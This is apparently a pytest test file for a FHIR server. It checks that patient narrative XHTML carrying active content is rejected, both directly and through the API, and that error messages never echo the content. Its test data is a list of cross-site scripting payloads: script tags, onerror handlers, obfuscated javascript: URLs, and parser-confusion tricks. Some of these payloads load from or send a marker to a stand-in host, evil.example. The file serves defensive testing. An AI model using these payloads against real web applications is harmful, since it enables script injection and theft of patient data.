"""Narrative XHTML is restricted to R4's allow-list (narrative-definitions.html, txt-1): active
content is refused on every write, wherever the narrative sits, without echoing it."""

from __future__ import annotations

import pytest

from fhirserver.narrative import narrative_problem

XHTML = '<div xmlns="http://www.w3.org/1999/xhtml">{}</div>'
MARKER = "Zq9secret"  # stands in for patient data inside the payload: must never be echoed

ATTACKS = {
    "script element": f"<p>{MARKER}</p><script>alert(1)</script>",
    "event attribute": f'<img src="x.png" alt="{MARKER}" onerror="alert(1)"/>',
    "javascript URL": f'<a href="javascript:alert(1)">{MARKER}</a>',
    "javascript URL hidden by a tab entity": f'<a href=" java&#9;script:alert(1)">{MARKER}</a>',
    "iframe": f'<p><iframe src="https://evil.example/{MARKER}"/></p>',
    "style element": f"<style>p {{ color: red }}</style><p>{MARKER}</p>",
    "form": f'<form action="https://evil.example"><input name="{MARKER}"/></form>',
    "object": f'<object data="https://evil.example/{MARKER}.swf"/>',
    "base element": f'<base href="https://evil.example/"/><a href="x">{MARKER}</a>',
    "data URL outside images": f'<a href="data:text/html,{MARKER}">x</a>',
    "svg image as data URL": '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>',
    "CSS loading a URL": f'<span style="background: url(https://evil.example/{MARKER})">x</span>',
    "CDATA parsed as a comment by HTML": f"<![CDATA[><img src=x onerror=alert(1)>{MARKER}]]>",
    "comment closed early by HTML": f"<!--><img src=x onerror=alert(1)>{MARKER}-->",
    "foreign namespace": f'<svg xmlns="http://www.w3.org/2000/svg"><text>{MARKER}</text></svg>',
    "xlink attribute": f'<a xmlns:x="http://www.w3.org/1999/xlink" x:href="https://e">{MARKER}</a>',
}


@pytest.mark.parametrize("content", ATTACKS.values(), ids=ATTACKS.keys())
def test_active_content_is_refused(content):
    problem = narrative_problem(XHTML.format(content))
    assert problem is not None
    assert MARKER not in problem


@pytest.mark.parametrize(
    "div",
    [
        XHTML.format("<p>Ada <b>Lovelace</b>, born <span style='color: #333'>1815</span></p>"),
        XHTML.format('<a href="https://example.org/x">x</a> <a href="#ref">r</a> <a href="Patient/1">p</a>'),
        XHTML.format('<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"/><img src="#photo"/>'),
        XHTML.format('<table border="1"><tr><th scope="col">a</th></tr><tr><td>1</td></tr></table>'),
        XHTML.format('<p xml:lang="en" lang="en">x &lt; y &amp; &#160;z</p><!-- made by hand -->'),
    ],
)
def test_ordinary_narratives_are_allowed(div):
    assert narrative_problem(div) is None


def test_problems_name_the_place_in_the_xhtml():
    problem = narrative_problem(XHTML.format("<table><tr><td><script>x</script></td></tr></table>"))
    assert problem == "element 'script' is not allowed in a narrative (at div/table/tr/td/script)"


def _patient(div: str, **extra) -> dict:
    return {"resourceType": "Patient", "text": {"status": "generated", "div": div}, **extra}


@pytest.mark.parametrize("content", list(ATTACKS.values())[:6], ids=list(ATTACKS)[:6])
def test_api_refuses_active_narrative_without_echoing_it(fhir, content):
    response = fhir.post("/Patient", json=_patient(XHTML.format(content)))
    assert response.status_code == 400, response.text
    (issue,) = response.json()["issue"]
    assert issue["expression"] == ["Patient.text.div"]
    assert "not allowed" in issue["diagnostics"]
    assert MARKER not in response.text and "alert" not in response.text


def test_api_checks_contained_resources_and_bundle_entries(fhir):
    evil = XHTML.format('<img src="x.png" onerror="alert(1)"/>')
    contained = {"resourceType": "Practitioner", "id": "p1", "text": {"status": "generated", "div": evil}}
    response = fhir.put("/Patient/narr-contained", json=_patient(XHTML.format("ok"), contained=[contained]))
    assert response.status_code == 400
    assert response.json()["issue"][0]["expression"] == ["Patient.contained[0].text.div"]
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [{"resource": _patient(evil), "request": {"method": "POST", "url": "Patient"}}],
    }
    response = fhir.post("", json=bundle)
    assert response.status_code == 400
    assert "Bundle.entry[0].resource.Patient.text.div" in response.json()["issue"][0]["expression"]


def test_api_stores_an_allowed_narrative_unchanged(fhir):
    div = XHTML.format('<p>Ada <a href="https://example.org">Lovelace</a></p><img src="#photo" alt="x"/>')
    created = fhir.post("/Patient", json=_patient(div))
    assert created.status_code == 201, created.text
    assert fhir.get(f"/Patient/{created.json()['id']}").json()["text"]["div"] == div
